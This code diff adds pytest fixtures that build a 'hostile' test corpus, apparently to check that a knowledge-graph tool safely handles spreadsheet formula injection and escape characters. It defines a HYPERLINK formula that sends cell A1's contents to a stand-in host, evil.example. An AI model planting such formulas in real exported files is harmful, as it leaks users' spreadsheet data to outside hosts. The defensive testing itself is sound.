@@ -39,6 +39,18 @@ def tiny_corpus(tmp_path) -> Path:
     return folder
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+"""The spreadsheet formula that tests/data/hostile puts in a name and a quote."""
+
+
+@pytest.fixture(scope="session")
+def hostile_store(tmp_path_factory) -> str:
+    """tests/data/hostile built: tests/data/tiny with formulas in names and a quote, an ESC in a title."""
+    store = str(tmp_path_factory.mktemp("hostile") / "store")
+    kg.build(DATA / "hostile", store=store, out=None)
+    return store
+
+
 def write(path: Path, text: str) -> Path:
     """Write dedented text (UTF-8) and return the path."""
     path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
